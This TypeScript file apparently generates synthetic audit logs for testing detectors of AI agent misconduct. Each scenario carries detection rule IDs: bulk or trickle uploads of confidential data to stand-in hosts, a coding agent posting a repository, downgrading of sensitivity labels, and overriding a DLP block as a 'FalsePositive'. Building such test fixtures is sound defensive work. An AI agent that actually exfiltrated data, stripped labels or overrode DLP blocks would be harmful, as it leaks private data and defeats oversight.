import { labelRow, purviewTable } from "../background/labelling";
import { labels } from "../labels";
import { hour, minute } from "../time";
import type { Attack } from "./attack";
import type { Scene } from "./scene";

interface Upload {
  readonly host: string;
  readonly times: number;
  readonly bytes: number;
  /** pause between two, in milliseconds */
  readonly pause: number;
  readonly label?: "confidential" | "restricted" | "highlyConfidential";
}

/** Sends with the agent's first tool. */
function upload(scene: Scene, { host, times, bytes, pause, label }: Upload): void {
  const { kind } = scene.agent.blueprint;
  const session = scene.session("Send a copy.");
  for (let i = 0; i < times; i++) {
    const send = { host, method: "POST", path: "/upload/{n}", bytes } as const;
    session.call({ tool: Object.keys(kind.tools)[0]!, send, ...(label && { label }) });
    session.wait(pause);
  }
  session.finish("done.");
}

/** Attacks that take data out, or what holds it in. */
export const dataAttacks: readonly Attack[] = [
  {
    name: "exfiltration",
    title: "An agent sends tens of megabytes of confidential data to a host that nobody knows",
    strength: "strong",
    detections: ["AIC-046", "AIC-047", "AIC-060"],
    victims: { kinds: ["finance", "people", "healthcare"] },
    write: (scene) =>
      upload(scene, {
        host: "files.quick-transfer.app",
        times: 30,
        bytes: 2_400_000,
        pause: 20_000,
        label: "restricted",
      }),
  },
  {
    name: "exfiltration-by-a-coding-agent",
    title: "A coding agent posts the repository to a host that looks like documentation",
    strength: "medium",
    detections: ["AIC-046", "AIC-047"],
    victims: { kinds: ["coding"] },
    write: (scene) => upload(scene, { host: "docs.velvetfjord.io", times: 14, bytes: 1_900_000, pause: 45_000 }),
  },
  {
    name: "trickle",
    title: "An agent sends a little to a new host every half hour of a day",
    strength: "weak",
    detections: ["AIC-046"],
    write: (scene) => upload(scene, { host: "telemetry.app-insight.io", times: 12, bytes: 45_000, pause: 0.5 * hour }),
  },
  {
    name: "agent-without-blueprint-sends",
    title: "An agent without a blueprint sends to a host that it never contacted",
    strength: "medium",
    detections: ["AIC-046"],
    victims: { kinds: ["procurement", "supplier-watch"] },
    write: (scene) => upload(scene, { host: "drop.ferry-share.net", times: 9, bytes: 380_000, pause: minute }),
  },
  {
    name: "more-to-a-known-host",
    title: "An agent sends twenty times as much as usual to a host that it knows",
    strength: "medium",
    detections: ["AIC-047"],
    victims: { kinds: ["finance", "devops", "coding", "research"] },
    write(scene) {
      const host = Object.keys(scene.agent.blueprint.kind.destinations)[0]!;
      upload(scene, { host, times: 25, bytes: 2_600_000, pause: 70_000 });
    },
  },
  {
    name: "labelled-data-to-a-partner",
    title: "An agent sends highly confidential data to a partner",
    strength: "medium",
    detections: ["AIC-060"],
    victims: { kinds: ["healthcare", "settlement"] },
    write(scene) {
      const { destinations } = scene.agent.blueprint.kind;
      const [host] = Object.entries(destinations).find(([, zone]) => zone === "Partner")!;
      upload(scene, { host, times: 3, bytes: 20_000, pause: minute, label: "highlyConfidential" });
    },
  },
  {
    name: "labels-lowered",
    title: "An agent lowers and removes labels of documents",
    strength: "strong",
    detections: ["AIC-062"],
    victims: { kinds: ["people"] },
    write(scene) {
      const changes = [
        { event: "LabelDowngraded", from: labels.highlyConfidential, to: labels.general },
        { event: "LabelRemoved", from: labels.restricted },
        { event: "LabelDowngraded", from: labels.restricted, to: labels.public },
      ] as const;
      for (const [i, change] of changes.entries()) {
        const time = scene.at + i * 3 * minute;
        const item = `board-minutes-${i + 1}.docx`;
        const row = labelRow(scene.company, scene.agent, time, { id: scene.random.guid(), item, ...change });
        scene.row(purviewTable, time, row);
      }
    },
  },
  {
    name: "dlp-overridden",
    title: "Data loss prevention blocks what an agent shares, and the block is overridden",
    strength: "strong",
    detections: ["AIC-061"],
    victims: { kinds: ["people", "research", "support"] },
    write(scene) {
      for (let i = 0; i < 2; i++) {
        const time = scene.at + i * 6 * minute;
        const change = {
          id: scene.random.guid(),
          event: "LabelRemoved",
          from: labels.restricted,
          item: `plan-${i}.xlsx`,
        } as const;
        const { LabelAction, LabelEventType, LabelName, OldSensitivityLabelId, ...common } = labelRow(
          scene.company,
          scene.agent,
          time,
          change,
        );
        scene.row(purviewTable, time, {
          ...common,
          Operation: "DLPRuleMatch",
          RecordTypeName: "ComplianceDLPSharePoint",
          PolicyName: "Financial data",
          RuleActions: ["BlockAccess", "NotifyUser"],
          OverRideType: i === 0 ? "" : "FalsePositive",
          OverRideReason: i === 0 ? "" : "needed today",
        });
      }
    },
  },
];
